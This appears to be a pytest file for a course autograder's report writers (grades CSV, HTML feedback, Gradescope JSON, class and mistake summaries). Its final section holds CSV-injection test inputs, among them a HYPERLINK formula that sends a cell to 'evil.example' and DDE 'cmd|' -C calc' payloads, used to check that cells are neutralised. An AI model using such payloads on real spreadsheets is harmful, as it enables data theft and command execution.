"""Reports from verdicts: gradebook CSV, feedback pages, Gradescope results, class summary."""
import csv
import dataclasses
import html
import json

import matplotlib

matplotlib.use("Agg")

import matplotlib.pyplot as plt  # noqa: E402
import pytest  # noqa: E402

from autograder.reports import feedback, gradescope, grades, mistakes, summary, write_reports  # noqa: E402
from autograder.reports.text import exercise_lines  # noqa: E402
from autograder.verdict import GRADED, UNGRADABLE, CaseOutcome, ExerciseResult, Verdict  # noqa: E402

EXERCISES = ["conv_forward_naive", "max_pool_forward"]
ESCAPE_MESSAGE = "got x < 0 & y > 1 where 'out' expected \"ok\""
REASON = "the notebook is not valid JSON (line 3)"


def verdict(student, points, cases=None, notes=()):
    """A graded verdict with conv worth 3 and pool worth 2 points."""
    cases = cases or {}
    exercises = [ExerciseResult(name, p, m, list(cases.get(name, [CaseOutcome(f"{name} case", True)])))
                 for name, p, m in zip(EXERCISES, points, [3.0, 2.0])]
    return Verdict(student, "02_convolution", "convolution", GRADED, exercises, list(notes))


@pytest.fixture
def verdicts():
    """bob: full marks; alice: partial, with a message needing escaping; carol: ungradable."""
    alice = verdict("alice", [1.5, 2.0], notes=["cell conv_forward_naive restored from its id"],
                    cases={"conv_forward_naive": [
                        CaseOutcome("stride 1, pad 0", True),
                        CaseOutcome("pad 1", False, ESCAPE_MESSAGE, "the bias is missing: add b[f]",
                                    mistake="the bias is missing: add b[f]")]})
    bob = verdict("bob", [3.0, 2.0])
    carol = Verdict("carol", "02_convolution", "convolution", UNGRADABLE,
                    [ExerciseResult(name, 0.0, m) for name, m in zip(EXERCISES, [3.0, 2.0])], reason=REASON)
    return [bob, carol, alice]                            # deliberately not sorted


@pytest.fixture(autouse=True)
def close_figures():
    yield
    plt.close("all")


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


# ---------------------------------------------------------------- grades.csv

def csv_rows(path):
    """{student: {column: value}} of a grades.csv, and its header."""
    header, *rows = read_csv(path)
    return header, {row[0]: dict(zip(header, row)) for row in rows}


def test_grades_csv_header_and_rows(tmp_path, verdicts):
    path = grades.write_grades_csv(verdicts, EXERCISES, tmp_path / "deep" / "grades.csv")
    header, rows = csv_rows(path)
    assert header == ["student_id", "status", "reason", "raw_score", "hours_late", "late_penalty",
                      "score_after_penalty", "max_score", *EXERCISES, "set_by_instructor", "seed"]
    assert list(rows) == ["alice", "bob", "carol"]
    numbers = {student: [float(row[c]) for c in ("score_after_penalty", "max_score", *EXERCISES)]
               for student, row in rows.items()}
    assert numbers["alice"] == [3.5, 5.0, 1.5, 2.0] and numbers["bob"] == [5.0, 5.0, 3.0, 2.0]
    assert rows["carol"]["status"] == "ungradable" and rows["carol"]["reason"] == REASON
    assert numbers["carol"][0] == 0 and numbers["carol"][2:] == [0.0, 0.0]
    assert all(row["hours_late"] == "" and row["late_penalty"] == "0" and row["set_by_instructor"] == ""
               for row in rows.values())


def test_grades_csv_shows_overrides_and_the_late_penalty(tmp_path, verdicts):
    alice = verdicts[2]
    adjusted = dataclasses.replace(alice, late_seconds=26 * 3600, late_penalty=1.0, exercises=[
        dataclasses.replace(alice.exercises[0], override=3.0, comment="stride handled; full marks"),
        alice.exercises[1]])
    _, rows = csv_rows(grades.write_grades_csv([adjusted], EXERCISES, tmp_path / "g.csv"))
    row = rows["alice"]
    assert (row[EXERCISES[0]], row["set_by_instructor"]) == ("3", EXERCISES[0])
    assert (row["raw_score"], row["hours_late"], row["late_penalty"], row["score_after_penalty"]) == \
        ("5", "26.00", "1", "4")     # 3 + 2 - 1
    page = feedback.feedback_html(adjusted)
    assert "set this exercise&#x27;s score to 3 / 3" in page and "stride handled; full marks" in page
    assert "26.0 hours after the due date: late penalty 1 points" in page


def test_ungradable_row_is_zero_even_without_exercises_or_with_stray_points(tmp_path, verdicts):
    bare = Verdict("dave", "02_convolution", "convolution", UNGRADABLE, reason="timed out")
    stray = Verdict("erin", "02_convolution", "convolution", UNGRADABLE,
                    [ExerciseResult(EXERCISES[0], 3.0, 3.0)], reason="kernel died")
    _, rows = csv_rows(grades.write_grades_csv([*verdicts, bare, stray], EXERCISES, tmp_path / "g.csv"))
    for student in ("dave", "erin"):
        assert [float(rows[student][c]) for c in ("score_after_penalty", *EXERCISES)] == [0.0, 0.0, 0.0]
        assert float(rows[student]["max_score"]) == 5.0         # the assignment's max, from the others


def test_grades_csv_follows_exercise_order(tmp_path, verdicts):
    order = list(reversed(EXERCISES))
    header, rows = csv_rows(grades.write_grades_csv(verdicts, order, tmp_path / "g.csv"))
    assert header[8:-2] == order
    assert [float(rows["alice"][name]) for name in order] == [2.0, 1.5]    # alice: pool, then conv


# ---------------------------------------------------------------- feedback HTML

def test_feedback_written_at_nbgrader_path_with_escaped_lines(tmp_path, verdicts):
    alice = verdicts[2]
    path = feedback.write_feedback(alice, tmp_path)
    assert path == tmp_path / "feedback" / "alice" / "02_convolution" / "convolution.html"
    page = path.read_text(encoding="utf-8")
    for exercise in alice.exercises:
        assert exercise.name in page
        for line in exercise_lines(exercise):
            assert html.escape(line) in page
    assert ESCAPE_MESSAGE not in page                      # raw "<" and "&" never reach the page
    assert "x &lt; 0 &amp; y &gt; 1" in page
    assert "3.5 / 5" in page and "1.5 / 3" in page
    assert "restored from its id" in page
    assert "02_convolution" in page and "convolution" in page


def test_feedback_is_self_contained_and_has_no_hidden_tests(verdicts):
    for v in verdicts:
        page = feedback.feedback_html(v).lower()
        assert page.startswith("<!doctype html>") and "<style>" in page
        for forbidden in ("<script", "src=", "href=", "@import", "http://", "https://"):
            assert forbidden not in page
        assert "begin hidden tests" not in page


def test_feedback_only_renders_the_verdict(verdicts):
    """A check's report is shown verbatim, so whatever it says is what the page says."""
    leaked = verdict("mallory", [0, 0],
                     cases={"conv_forward_naive": [CaseOutcome("x", False, "### BEGIN HIDDEN TESTS")]})
    assert html.escape("### BEGIN HIDDEN TESTS") in feedback.feedback_html(leaked)
    assert "BEGIN HIDDEN TESTS" not in "".join(feedback.feedback_html(v) for v in verdicts)


def test_feedback_of_ungradable_states_reason(tmp_path, verdicts):
    carol = verdicts[1]
    page = feedback.write_feedback(carol, tmp_path).read_text(encoding="utf-8")
    assert html.escape(REASON) in page
    assert 'class="status ungradable"' in page
    assert page.index(html.escape(REASON)) < page.index("Score:")   # reason before the score
    assert "Score: 0 / 5" in page


# ---------------------------------------------------------------- Gradescope

def test_gradescope_results_scores_and_statuses(tmp_path, verdicts):
    bob, carol, alice = verdicts
    path = gradescope.write_gradescope(alice, tmp_path / "gs" / "alice" / "results.json")
    results = json.loads(path.read_text(encoding="utf-8"))
    assert results["score"] == pytest.approx(3.5)
    assert sum(t["score"] for t in results["tests"]) == pytest.approx(results["score"])
    assert [t["name"] for t in results["tests"]] == EXERCISES
    assert [t["status"] for t in results["tests"]] == ["failed", "passed"]
    assert [t["max_score"] for t in results["tests"]] == [3.0, 2.0]
    assert results["tests"][0]["output"] == "\n".join(exercise_lines(alice.exercises[0]))
    assert results["visibility"] == "visible" and results["stdout_visibility"] == "hidden"
    assert "restored from its id" in results["output"]

    full = gradescope.gradescope_results(bob)
    assert full["score"] == 5.0 and all(t["status"] == "passed" for t in full["tests"])


def test_a_late_gradescope_result_has_a_penalty_test_so_its_tests_add_up_to_its_score(verdicts):
    late = dataclasses.replace(verdicts[0], late_seconds=40.5 * 3600, late_penalty=2.0)     # bob: 5 of 5
    results = json.loads(json.dumps(gradescope.gradescope_results(late)))
    assert results["score"] == 3.0 and sum(t["score"] for t in results["tests"]) == pytest.approx(3.0)
    penalty = results["tests"][-1]
    assert (penalty["name"], penalty["score"], penalty["max_score"]) == (gradescope.LATE_PENALTY, -2.0, 0)
    assert "40.5 hours after the due date: late penalty 2 points" in penalty["output"]
    assert "before it: 5" not in penalty["output"] and "Score before the penalty: 5" in penalty["output"]
    assert "Before the late penalty: 5" in results["output"]
    assert [t["name"] for t in gradescope.gradescope_results(verdicts[0])["tests"]] == EXERCISES   # on time: none
    page = feedback.feedback_html(late)
    assert "Score: 3 / 5 (60%) after the late penalty; 5 before it; submitted 40.5 hours" in page


def test_gradescope_ungradable_scores_zero_with_reason(verdicts):
    results = json.loads(json.dumps(gradescope.gradescope_results(verdicts[1])))
    assert results["score"] == 0
    assert REASON in results["output"]
    assert all(t["score"] == 0 and t["status"] == "failed" for t in results["tests"])


# ---------------------------------------------------------------- summary

def test_summary_table_names_students_and_pass_rates(verdicts):
    table = summary.summary_table(verdicts, EXERCISES)
    lines = table.splitlines()
    for student, status, score in [("alice", "graded", "3.5 / 5"), ("bob", "graded", "5 / 5"),
                                   ("carol", "UNGRADABLE", "0 / 5")]:
        line = next(line for line in lines if line.startswith(student))
        assert status in line.split() and line.endswith(score)
    conv = next(line for line in lines if line.startswith("conv_forward_naive"))
    pool = next(line for line in lines if line.startswith("max_pool_forward"))
    assert conv.split() == ["conv_forward_naive", "2.25", "3.00", "50%"]   # of graded students
    assert pool.split() == ["max_pool_forward", "2.00", "2.00", "100%"]
    assert "mean 4.25" in table and "median 4.25" in table
    assert "ungradable submissions: 1 of 3" in table


def test_summary_table_columns_line_up(verdicts):
    lines = summary.summary_table(verdicts, EXERCISES).split("\n\n")
    students, exercises = lines[0].splitlines(), lines[1].splitlines()
    assert len({len(line) for line in students}) == 1
    assert len({len(line) for line in exercises}) == 1


def test_plot_summary_has_histogram_and_pass_rates(verdicts):
    fig = summary.plot_summary(verdicts, EXERCISES)
    ax_hist, ax_rate = fig.axes
    assert sum(p.get_height() for p in ax_hist.patches) == 2          # two graded students
    widths = [p.get_width() for p in ax_rate.patches]
    assert widths == pytest.approx([50.0, 100.0])


def test_write_summary_saves_png_and_table(tmp_path, verdicts):
    table = summary.write_summary(verdicts, EXERCISES, tmp_path / "out")
    png = (tmp_path / "out" / "summary.png").read_bytes()
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5000
    assert (tmp_path / "out" / "summary.txt").read_text(encoding="utf-8") == table


# ---------------------------------------------------------------- mistakes

BIAS = "the bias is missing: add b[f]"
FLIP = "this is true convolution (flipped filter); the layer computes cross-correlation: " \
       "slide w as it is, do not flip it before the sum over every window of the padded input"


def failing(mistake):
    return CaseOutcome("case", False, "wrong values", mistake, mistake=mistake)


@pytest.fixture
def mistaken():
    """Six graded students and an ungradable one: four forget the bias (s1 in two cases), s2
    flips the filter too, s3's conv fails unexplained, s5 never defines max_pool_forward, s6
    passes; ungradable zed's cases would count if it were graded."""
    def student(name, conv=(), pool=None):
        v = verdict(name, [3.0 if not conv else 1.0, 2.0],
                    cases={"conv_forward_naive": [CaseOutcome("ok", True), *conv]})
        if pool:
            v.exercises[1] = pool
        return v
    undefined = ExerciseResult("max_pool_forward", 0.0, 2.0, [
        CaseOutcome(f"case {i}", False, "max_pool_forward is not defined") for i in range(3)], undefined=True)
    zed = Verdict("zed", "02_convolution", "convolution", UNGRADABLE,
                  [ExerciseResult("conv_forward_naive", 0.0, 3.0, [failing(BIAS)])], reason=REASON)
    return [student("s4", [failing(BIAS)]), zed,
            student("s1", [failing(BIAS), failing(BIAS), failing("")]),
            student("s2", [failing(BIAS), failing(FLIP)]),
            student("s3", [failing(""), failing("")]),
            student("s0", [failing(BIAS)]),
            student("s5", pool=undefined),
            student("s6")]


def test_mistake_rows_count_each_graded_student_once_per_row(mistaken):
    rows = [(r.exercise, r.mistake, r.students, r.examples) for r in mistakes.mistake_rows(mistaken)]
    assert rows == [          # known mistakes, then the rest; most students first, then exercise, mistake
        ("conv_forward_naive", BIAS, 4, ("s0", "s1", "s2")),            # examples: 3, sorted
        ("conv_forward_naive", FLIP, 1, ("s2",)),
        ("conv_forward_naive", mistakes.UNEXPLAINED, 2, ("s1", "s3")),  # s3 once for two cases
        ("max_pool_forward", mistakes.NOT_ATTEMPTED, 1, ("s5",))]       # not an unexplained failure


def test_a_stub_is_not_attempted_and_an_excused_exercise_is_no_mistake():
    stub = verdict("s7", [0.0, 2.0], cases={"conv_forward_naive": [failing("")]})
    stub.exercises[0].attempted = False
    excused = verdict("s8", [3.0, 2.0], cases={"conv_forward_naive": [failing(BIAS)]})
    excused.exercises[0].note = "not counted: built from zero_pad, which already lost points"
    rows = [(r.exercise, r.mistake, r.examples) for r in mistakes.mistake_rows([stub, excused])]
    assert rows == [("conv_forward_naive", mistakes.NOT_ATTEMPTED, ("s7",))]


def test_mistake_shares_are_of_graded_students_only(mistaken):
    rows = mistakes.mistake_rows(mistaken)
    assert [r.share for r in rows] == pytest.approx([4 / 7, 1 / 7, 2 / 7, 1 / 7])
    assert all("zed" not in r.examples for r in rows)
    assert mistakes.mistake_rows([v for v in mistaken if not v.graded]) == []
    assert mistakes.mistake_rows([v for v in mistaken if v.student == "s6"]) == []


def test_mistakes_csv_columns_and_content(tmp_path, mistaken):
    mistakes.write_mistakes(mistaken, EXERCISES, tmp_path / "out")
    header, *rows = read_csv(tmp_path / "out" / "mistakes.csv")
    assert header == ["exercise", "mistake", "students", "share", "examples"]
    assert rows[0] == ["conv_forward_naive", BIAS, "4", "0.5714", "s0; s1; s2"]
    assert rows[1][1] == FLIP                        # a long text with ";" and ":" kept whole
    assert rows[2] == ["conv_forward_naive", mistakes.UNEXPLAINED, "2", "0.2857", "s1; s3"]
    assert rows[3] == ["max_pool_forward", mistakes.NOT_ATTEMPTED, "1", "0.1429", "s5"]


def test_mistakes_png_written_with_readable_labels(tmp_path, mistaken):
    fig = mistakes.plot_mistakes(mistaken, EXERCISES)
    conv, pool = fig.axes                            # a panel per exercise with a mistake
    assert [p.get_width() for p in conv.patches] == pytest.approx([400 / 7, 100 / 7, 200 / 7])
    labels = [t.get_text() for t in conv.get_yticklabels()]
    assert labels[0] == BIAS
    assert all(len(line) <= 46 for label in labels for line in label.splitlines())
    assert labels[1].count("\n") == 2 and labels[1].endswith("…")    # a long text cut short
    assert [t.get_text() for t in pool.get_yticklabels()] == [mistakes.NOT_ATTEMPTED]
    mistakes.write_mistakes(mistaken, EXERCISES, tmp_path)
    png = (tmp_path / "mistakes.png").read_bytes()
    assert png.startswith(b"\x89PNG\r\n\x1a\n") and len(png) > 5000


def test_mistakes_png_of_a_class_without_mistakes(tmp_path, verdicts):
    mistakes.write_mistakes([verdicts[0]], EXERCISES, tmp_path)          # bob: full marks
    assert read_csv(tmp_path / "mistakes.csv") == [["exercise", "mistake", "students", "share", "examples"]]
    assert (tmp_path / "mistakes.png").read_bytes().startswith(b"\x89PNG")


def png_description(path):
    from PIL import Image
    with Image.open(path) as image:
        return image.text.get("Description", "")


def test_the_instructors_pngs_say_what_they_show_and_name_their_text(tmp_path, mistaken):
    """Each PNG carries its text alternative (its Description) with the numbers it charts, and
    names its text equivalent on the image; summary.txt names both PNGs."""
    rows = mistakes.write_mistakes(mistaken, EXERCISES, tmp_path)
    graded = sum(v.graded for v in mistaken)
    described = png_description(tmp_path / "mistakes.png")
    assert f"{graded} graded students" in described and "mistakes.csv" in described
    assert all(f"{mistakes.share_text(row, graded)} {row.mistake}" in described for row in rows)
    fig = mistakes.plot_mistakes(mistaken, EXERCISES)
    assert "mistakes.csv" in fig.get_suptitle()
    table = summary.write_summary(mistaken, EXERCISES, tmp_path)
    assert "summary.png" in table and "mistakes.png" in table
    described = png_description(tmp_path / "summary.png")
    assert "summary.txt" in described and f"{graded} graded students" in described
    for name, mean, max_points, rate in summary.exercise_stats(mistaken, EXERCISES):
        assert f"{name} {100 * (rate or 0):.0f}%" in described


def test_the_mistakes_chart_tells_known_mistakes_by_hatching_not_colour_alone(mistaken):
    conv, pool = mistakes.plot_mistakes(mistaken, EXERCISES).axes
    labels = [t.get_text() for t in conv.get_yticklabels()]
    hatched = [bool(bar.get_hatch()) for bar in conv.patches]
    assert hatched == [label.startswith(("unexplained", "not attempted")) for label in labels] == [False, False, True]
    assert all(bar.get_hatch() for bar in pool.patches)                    # not attempted


def test_summary_lists_the_most_common_mistakes(mistaken, verdicts):
    table = summary.summary_table(mistaken, EXERCISES)
    section = table.split("\n\n")[-1].splitlines()
    assert section[0] == ("what the class got wrong (of 7 graded students; known mistakes first; all in mistakes.csv, "
                          "charted in mistakes.png):")
    assert section[1:] == [f"  57% (4 of 7)  conv_forward_naive: {BIAS}",
                           f"  14% (1 of 7)  conv_forward_naive: {FLIP}",
                           f"  29% (2 of 7)  conv_forward_naive: {mistakes.UNEXPLAINED}",
                           f"  14% (1 of 7)  max_pool_forward: {mistakes.NOT_ATTEMPTED}"]
    assert "ungradable submissions: 1 of 8" in table
    assert "none: every graded student" in summary.summary_table([verdicts[0]], EXERCISES)


def test_summary_shows_at_most_the_top_mistakes():
    many = [verdict(f"s{i}", [1.0, 2.0], cases={"conv_forward_naive": [failing(f"mistake {i}")]})
            for i in range(summary.TOP_MISTAKES + 2)]
    section = summary.summary_table(many, EXERCISES).split("\n\n")[-1].splitlines()
    assert len(section) == 1 + summary.TOP_MISTAKES


# ---------------------------------------------------------------- everything

def test_write_reports_writes_every_file(tmp_path, verdicts):
    course, out = tmp_path / "course", tmp_path / "reports"
    table = write_reports("02_convolution", verdicts, EXERCISES, course, out)
    folder = out / "02_convolution"
    assert (folder / "summary.txt").read_text(encoding="utf-8") == table
    assert read_csv(folder / "grades.csv")[0][0] == "student_id"
    assert (folder / "summary.png").read_bytes().startswith(b"\x89PNG")
    assert read_csv(folder / "mistakes.csv")[1:] == [
        ["conv_forward_naive", "the bias is missing: add b[f]", "1", "0.5000", "alice"]]
    assert (folder / "mistakes.png").read_bytes().startswith(b"\x89PNG")
    for student in ("alice", "bob", "carol"):
        results = json.loads((folder / "gradescope" / student / "results.json").read_text())
        assert "score" in results
        assert (course / "feedback" / student / "02_convolution" / "convolution.html").exists()


def test_write_reports_refuses_other_assignments(tmp_path, verdicts):
    with pytest.raises(ValueError, match="02_convolution"):
        write_reports("03_pooling", verdicts, EXERCISES, tmp_path, tmp_path)


def test_student_names_cannot_escape_the_folders(tmp_path):
    sneaky = verdict("../../etc", [0, 0])
    with pytest.raises(ValueError, match="student"):
        feedback.write_feedback(sneaky, tmp_path)


def test_a_verdict_crosses_processes_as_data(verdicts):
    """A worker sends its verdict as JSON: every case's outcome comes back as it was."""
    for v in verdicts:
        assert Verdict.from_dict(json.loads(json.dumps(v.as_dict()))) == v


# ---------------------------------------------------------------- CSV cells a spreadsheet would run

# OWASP's CSV injection: a cell starting with one of these is read as a formula.
FORMULA = ("=", "+", "-", "@", "\t", "\r")
# (a student id names a folder: no "/")
HOSTILE_IDS = ['=HYPERLINK("http:" & "evil.example?" & A1, "open")', "+1+cmd|' -C calc'!A0",
               "-2+3+cmd|' -C calc'!A0", "@SUM(1+1)*cmd|' -C calc'!A0", "\t=1+1", "\r=1+1"]


def assert_no_formula(rows):
    """No cell of the rows (a CSV read back) starts with what a spreadsheet runs."""
    runnable = [cell for row in rows for cell in row if cell.startswith(FORMULA)]
    assert not runnable


def shown(cell):
    """A cell as a spreadsheet shows it: a leading single quote marks text and is not shown."""
    return cell[1:] if cell.startswith("'") else cell


def test_no_cell_of_grades_or_mistakes_csv_starts_with_a_formula(tmp_path):
    failed = [CaseOutcome("pad 1", False, "off by one", "-the bias: add b[f]", mistake="-the bias: add b[f]")]
    hostile = [verdict(student, [1.0, 2.0], cases={"conv_forward_naive": failed}) for student in HOSTILE_IDS]
    broken = Verdict("@broken", "02_convolution", "convolution", UNGRADABLE, reason="=cmd|' -C calc'!A0 is not JSON")
    flagged = dataclasses.replace(verdict("+flagged", [3.0, 2.0]), flag="-timestamp.txt is a folder")
    write_reports("02_convolution", [*hostile, broken, flagged], EXERCISES, tmp_path, tmp_path / "reports")
    grades_csv = read_csv(tmp_path / "reports" / "02_convolution" / "grades.csv")
    mistakes_csv = read_csv(tmp_path / "reports" / "02_convolution" / "mistakes.csv")
    assert_no_formula(grades_csv)
    assert_no_formula(mistakes_csv)
    header, *rows = grades_csv
    by_id = {shown(row[0]): dict(zip(header, row)) for row in rows}
    assert sorted(by_id) == sorted([*HOSTILE_IDS, "@broken", "+flagged"])          # the ids are recognisable
    assert shown(by_id["@broken"]["reason"]) == broken.reason
    assert shown(by_id["+flagged"]["reason"]) == flagged.flag
    assert all(float(row["score_after_penalty"]) >= 0 and not row["score_after_penalty"].startswith("'")
               for row in by_id.values())
    mistake = next(row for row in mistakes_csv if shown(row[1]) == "-the bias: add b[f]")
    assert shown(mistake[4]).split("; ") == sorted(HOSTILE_IDS)[:mistakes.EXAMPLES]


def test_no_cell_of_similarity_csv_starts_with_a_formula(tmp_path):
    from autograder.admin import similarity
    pairs = [similarity.Pair(a, b, 0.9, 40) for a, b in zip(HOSTILE_IDS, HOSTILE_IDS[1:])]
    similarity.write_similarity(similarity.Similarity("02_convolution", pairs), tmp_path)
    rows = read_csv(tmp_path / "02_convolution" / "similarity.csv")
    assert_no_formula(rows)
    assert [(shown(a), shown(b)) for a, b, *_ in rows[1:]] == list(zip(HOSTILE_IDS, HOSTILE_IDS[1:]))


def test_a_csv_cell_neutralises_text_and_keeps_numbers():
    from autograder.reports.common import csv_cell
    assert [csv_cell(value) for value in (3, -1.5, 0.25, None, "ada", "3.5")] == [3, -1.5, 0.25, "", "ada", "3.5"]
    assert [csv_cell(text) for text in HOSTILE_IDS] == ["'" + text for text in HOSTILE_IDS]
